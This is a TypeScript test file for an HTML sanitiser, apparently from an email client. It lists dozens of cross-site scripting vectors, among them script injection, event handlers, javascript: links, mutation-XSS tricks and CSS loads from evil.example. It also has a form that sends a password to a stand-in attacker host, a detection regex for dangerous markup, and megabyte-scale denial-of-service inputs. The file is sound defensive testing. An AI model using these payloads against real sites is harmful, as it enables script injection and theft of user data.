import { expect, test } from 'vitest'
import { sanitise } from '#console/sanitise.ts'
import { startSanitiser } from '#console/sanitise-pool.ts'

/** What a browser could run, load or be led to, found in the tags of sanitised HTML. */
function dangers(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([^\s>/]*)([^>]*)>/g)]
  return tags.flatMap(([tag, name = '', attributes = '']) => {
    const bad =
      /^(script|style|svg|math|iframe|frame|object|embed|form|input|button|meta|base|link|template|video|audio|source|select|textarea|title|noscript|xmp|plaintext|body|html|head|animate|set|use|foreignobject|portal|marquee|details\s+on)/i.test(
        name,
      ) ||
      /\s(on\w+|srcset|background|poster|action|formaction|ping|id|class|name|xlink:href|data=|srcdoc|href="(?!https?:|mailto:|tel:))/i.test(
        attributes,
      ) ||
      /\ssrc="(?!data:image\/(png|jpeg|gif|webp);base64,)/i.test(attributes) ||
      /url\(|expression|javascript:|@import|position|z-index|behavior|-moz-binding|var\(|\\/i.test(
        attributes,
      )
    return bad ? [tag] : []
  })
}

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/a.png">',
  '<img data-src="https://evil.example" data-cid="x" src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="/api/auth/sign-out"><img src="../attachments/1">',
  '<body onload=alert(1) background="https://evil.example/x.png">',
  '<div onmouseover="alert(1)" onfocus=alert(1) tabindex=1 autofocus>x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://desk.example/1">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a href="https://ok.example" target="_parent" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example\' 1x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>',
  '<div style="margin-top:-500px;margin-left:-100%">cover</div>',
  "<div style=\"color:var(--x);font-family:'a\\';background:url(//evil.example)'\">x</div>",
  '<div style="list-style:url(https://evil.example);cursor:url(https://evil.example),auto">x</div>',
  '<div style="content:url(https://evil.example);filter:url(https://evil.example#x)">x</div>',
  '<div style="font-family:x;}body{display:none">x</div>',
  '<div id="content" class="modal" name="getElementById">clobber</div>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<p lang="x"onload=alert(1)">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<<script>alert(1)//<</script>',
  '<img src=1 onerror\u0000=alert(1)>',
  '<scri\u0000pt>alert(1)</scri\u0000pt>',
  '<a href=" \u00a0javascript:alert(1)">x</a>',
  '<img \u2028src=x\u2028onerror=alert(1)>',
]

test.for(vectors)('%s cannot run, load or lead anywhere', (html) => {
  const first = sanitise(html).html
  expect(dangers(first)).toEqual([])
  expect(dangers(sanitise(`<div><p>${html}</p></div>`).html)).toEqual([])
})

test('what people write with stays', () => {
  const html =
    '<p dir="rtl" style="color:#b00;font-size:14px;margin:0 0 8px">Hi <b>Ana</b>,<br />see <a href="https://ok.example/a?b=1&amp;c=2">this</a></p>' +
    '<table border="1" cellpadding="4"><tbody><tr><td colspan="2" bgcolor="#eeeeee">1</td></tr></tbody></table>' +
    '<ul><li>one</li></ul><blockquote>old</blockquote>'

  expect(sanitise(html).html).toBe(
    html.replace(
      'c=2">',
      'c=2" title="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">',
    ),
  )
})

test('a link says where it really goes', () => {
  expect(
    sanitise('<a href="https://evil.example" title="https://bank.example">https://bank.example</a>')
      .html,
  ).toContain('title="https://evil.example/"')
})

test('pictures wait without a source, and are counted when they are elsewhere', () => {
  const clean = sanitise(
    '<img src="cid:logo@x"><img src="https://cdn.example/a.png?b=1&c=2" alt="A" width="10"><img src="//cdn.example/b.png">',
  )

  expect(clean.html).toBe(
    '<img data-cid="logo@x" /><img data-src="https://cdn.example/a.png?b=1&amp;c=2" alt="A" width="10" /><img data-src="https://cdn.example/b.png" />',
  )
  expect(clean.remote).toBe(2)
})

test('colours are noticed, because they were chosen for a light ground', () => {
  expect(sanitise('<p>plain</p>').coloured).toBe(false)
  for (const html of [
    '<p style="color:red">x</p>',
    '<p style="background:#fff">x</p>',
    '<font color="red">x</font>',
    '<table bgcolor="#fff"></table>',
  ])
    expect(sanitise(html).coloured, html).toBe(true)
})

const megabyte = 1_000_000
const hostile: [string, string][] = [
  ['a tag that never ends', `<a ${'x '.repeat(megabyte / 2)}`],
  ['nested tags', '<div>'.repeat(megabyte / 5)],
  ['misnested tags', '<b><i><p>'.repeat(megabyte / 9)],
  ['nested tables', '<table><tr><td>'.repeat(megabyte / 15)],
  ['open brackets', '<'.repeat(megabyte)],
  ['open comments', '<!--'.repeat(megabyte / 4)],
  ['dropped tags', '<svg><style><!--'.repeat(megabyte / 16)],
  ['nested frames', '<iframe>'.repeat(megabyte / 8)],
  ['60,000 attributes', `<p ${Array.from({ length: 60_000 }, (_, n) => `a${n}=b`).join(' ')}>`],
  ['60,000 styled tags', '<p style="color:red;x:y">'.repeat(megabyte / 25)],
  ['one long style', `<p style="${'color:red;'.repeat(megabyte / 10)}">`],
  ['one long style that is none', `<p style="${'{'.repeat(megabyte)}">`],
  ['one long value', `<p style="border:${'a '.repeat(megabyte / 2)}!">`],
  ['one long colour', `<p style="color:rgb(${'1,'.repeat(megabyte / 2)}">`],
  ['entities', '&amp;&#x26;&lt'.repeat(megabyte / 13)],
  ['spaces in a link', `<a href="${' '.repeat(megabyte)}x">`],
  ['a long picture', `<img src="data:image/png;base64,${'A '.repeat(megabyte / 2)}!">`],
]

test.for(hostile)(
  'a megabyte of %s ends by the deadline, and the event loop goes on',
  async ([, html]) => {
    const sanitiser = startSanitiser({ workers: 1 })
    await sanitiser.sanitise('<p>warm</p>')
    let longest = 0
    let last = performance.now()
    const beat = setInterval(() => {
      longest = Math.max(longest, performance.now() - last)
      last = performance.now()
    }, 5)

    const started = performance.now()
    const clean = await sanitiser.sanitise(html)
    const took = performance.now() - started

    clearInterval(beat)
    expect(took).toBeLessThan(3500)
    expect(longest).toBeLessThan(500)
    if (clean) expect(dangers(clean.html.slice(0, 10_000))).toEqual([])
    expect(await sanitiser.sanitise('<p>next</p>')).toMatchObject({ html: '<p>next</p>' })
    await sanitiser.close()
  },
)

test('what is over the deadline is given up, and the next document is not', async () => {
  const sanitiser = startSanitiser({ workers: 1, deadlineMillis: 300 })

  const slow = sanitiser.sanitise('<p style="color:red">x'.repeat(500_000))
  const next = sanitiser.sanitise('<p>next</p>')

  expect(await slow).toBeNull()
  await next
  expect(await sanitiser.sanitise('<p>later</p>')).toMatchObject({ html: '<p>later</p>' })
  await sanitiser.close()
})
